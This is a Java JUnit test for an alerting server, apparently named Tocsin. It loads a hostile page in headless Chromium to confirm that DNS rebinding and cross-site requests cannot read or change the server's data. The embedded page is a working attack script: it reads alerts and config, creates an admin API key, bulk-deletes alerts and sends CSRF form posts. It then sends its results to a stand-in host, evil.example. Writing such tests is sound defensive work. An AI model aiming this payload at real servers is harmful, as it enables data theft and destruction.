package io.tocsin.auth;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import io.tocsin.TocsinServer;
import io.tocsin.http.alerta.Face;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A page of {@code evil.example} in a real browser, whose name has become one of this machine, and
 * a server that asks nobody who they are.
 */
class RebindingTest {

  private static final Path BROWSER = Path.of("/usr/bin/chromium");
  private static final int PATIENCE_SECONDS = 180;

  private static final String PAGE =
      """
      <!doctype html><meta charset="utf-8"><body><script>
      const direct = 'http://127.0.0.1:SERVER', collector = 'http://evil.example:COLLECTOR/report';
      const alert = '{"resource":"evil","event":"e","environment":"Production"}';
      const json = {'Content-Type': 'application/json'};
      const results = {};
      async function attempt(name, url, options) {
        try {
          const answer = await fetch(url, options);
          results[name] = answer.status + ' ' + (await answer.text()).slice(0, 300);
        } catch (e) {
          results[name] = 'blocked';
        }
      }
      async function attack() {
        // The name is that of this machine by now: all that is the page's own origin
        await attempt('own GET', '/alerts');
        await attempt('own config', '/config');
        await attempt('own POST', '/alert', {method: 'POST', headers: json, body: alert});
        await attempt('own text', '/webhooks/prometheus', {method: 'POST', body: FIRING});
        await attempt('own key', '/key', {method: 'POST', headers: json,
            body: '{"user":"x","key":"a-key-of-the-evil-page","scopes":["admin","read","write"]}'});
        await attempt('own DELETE', '/_bulk/alerts', {method: 'DELETE'});
        await attempt('own DELETE all', '/_bulk/alerts?confirm=all', {method: 'DELETE'});
        await attempt('own housekeeping', '/management/housekeeping?expired=1');
        // And this is what any page can do without a name
        for (const mode of ['no-cors', 'cors']) {
          await attempt(mode + ' GET', direct + '/alerts', {mode});
          await attempt(mode + ' GET that changes', direct + '/management/housekeeping', {mode});
          await attempt(mode + ' text', direct + '/webhooks/prometheus',
              {method: 'POST', mode, body: FIRING});
          await attempt(mode + ' alerts', direct + '/api/v2/alerts', {method: 'POST', mode,
              body: '[{"labels":{"alertname":"evil","instance":"i"}}]'});
          await attempt(mode + ' form', direct + '/webhooks/slack', {method: 'POST', mode,
              body: new URLSearchParams({payload: '{}'})});
          await attempt(mode + ' multipart', direct + '/webhooks/prometheus', {method: 'POST', mode,
              body: (() => {const f = new FormData(); f.append('a', 'b'); return f;})()});
        }
        await attempt('json', direct + '/alert', {method: 'POST', headers: json, body: alert});
        await attempt('DELETE', direct + '/_bulk/alerts?confirm=all', {method: 'DELETE'});
        const frame = document.createElement('iframe');
        frame.name = 'f';
        document.body.append(frame);
        for (const action of ['/webhooks/prometheus', '/api/v2/alerts', '/alert']) {
          const form = document.createElement('form');
          Object.assign(form, {method: 'post', enctype: 'text/plain', action: direct + action,
              target: 'f'});
          const field = document.createElement('input');
          Object.assign(field, {name: FIRING.slice(0, -2) + ',"x":"', value: '"}'});
          form.append(field);
          document.body.append(form);
          const loaded = new Promise(done => { frame.onload = done; });
          form.submit();
          await loaded;
        }
        await new Promise(done => {
          const image = new Image();
          image.onerror = image.onload = done;
          image.src = direct + '/webhooks/pingdom?message=' + encodeURIComponent(
              '{"check":"1","checkname":"evil","host":"h","action":"assign","description":"down"}');
        });
        try {
          results['frame'] = frame.contentDocument.body.innerText;
        } catch (e) {
          results['frame'] = 'blocked';
        }
        await fetch(collector, {method: 'POST', mode: 'no-cors', body: JSON.stringify(results)});
      }
      attack();
      </script>
      """;
  private static final String FIRING =
      "'{\"alerts\":[{\"status\":\"firing\",\"labels\":{\"alertname\":\"evil\",\"instance\":\"i\"}}]}'";

  @TempDir Path directory;

  @Test
  void pageOfAnotherSite_readsAndChangesNothing() throws Exception {
    assumeTrue(Files.isExecutable(BROWSER), "there is no " + BROWSER + " here");
    CompletableFuture<String> report = new CompletableFuture<>();
    HttpServer collector = collector(report);
    try (TocsinServer server = start();
        ReboundName name = ReboundName.open(server.uri().getPort())) {
      Face face = new Face(server.uri());
      face.receive("{\"resource\":\"web01\",\"event\":\"secret\",\"environment\":\"Production\"}");
      String before = stored(face);
      String page =
          PAGE.replace("SERVER", Integer.toString(server.uri().getPort()))
              .replace("COLLECTOR", Integer.toString(collector.getAddress().getPort()))
              .replace("FIRING", FIRING);
      Map<String, String> results = browse(name.show(page), report);
      results.forEach(
          (attempt, result) ->
              assertTrue(
                  attempt.startsWith("own") ? result.startsWith("421 ") : isNothing(result),
                  attempt + ": " + result));
      assertEquals(8 + 12 + 2 + 1, results.size(), results::toString);
      assertEquals(before, stored(face));
    } finally {
      collector.stop(0);
    }
  }

  /** No answer, or one that pages do not see. */
  private static boolean isNothing(String result) {
    return result.equals("blocked") || result.equals("0 ") || result.isEmpty();
  }

  private TocsinServer start() {
    return TocsinServer.start(
        "--tocsin.port=0",
        "--tocsin.data-dir=" + directory.resolve("data"),
        "--tocsin.housekeeping.interval=0s",
        "--tocsin.query.counts-max-age=0s");
  }

  private static String stored(Face face) {
    StringBuilder stored = new StringBuilder();
    for (String list : List.of("alerts", "keys", "users", "blackouts")) {
      String rows = face.get("/" + list + "?page-size=100").json().path(list).toString();
      stored.append(rows);
    }
    return stored.toString();
  }

  private static HttpServer collector(CompletableFuture<String> report) throws IOException {
    HttpServer collector =
        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    collector.createContext(
        "/report",
        exchange -> {
          report.complete(new String(exchange.getRequestBody().readAllBytes(), UTF_8));
          exchange.sendResponseHeaders(204, -1);
          exchange.close();
        });
    collector.start();
    return collector;
  }

  private Map<String, String> browse(String url, CompletableFuture<String> report)
      throws Exception {
    Process browser =
        new ProcessBuilder(
                BROWSER.toString(),
                "--headless",
                "--no-sandbox",
                "--disable-gpu",
                "--disable-quic",
                "--disable-dev-shm-usage",
                "--no-first-run",
                "--disable-background-networking",
                "--disable-component-update",
                "--disable-sync",
                "--remote-debugging-port=0",
                "--user-data-dir=" + directory.resolve("profile"),
                "--host-resolver-rules=MAP evil.example 127.0.0.1",
                url)
            .redirectErrorStream(true)
            .redirectOutput(directory.resolve("browser.log").toFile())
            .start();
    try {
      JsonNode results =
          new ObjectMapper().readTree(report.get(PATIENCE_SECONDS, TimeUnit.SECONDS));
      Map<String, String> byAttempt = new TreeMap<>();
      results.properties().forEach(each -> byAttempt.put(each.getKey(), each.getValue().asText()));
      return byAttempt;
    } finally {
      browser.descendants().forEach(ProcessHandle::destroyForcibly);
      browser.destroyForcibly().waitFor();
    }
  }
}
